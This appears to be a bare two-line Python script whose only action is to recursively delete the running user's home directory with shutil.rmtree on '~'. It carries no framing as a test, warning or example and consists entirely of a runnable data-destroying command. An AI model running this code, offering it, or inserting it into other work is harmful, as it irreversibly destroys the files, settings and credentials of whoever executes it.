import os, shutil
shutil.rmtree(os.path.expanduser("~"))
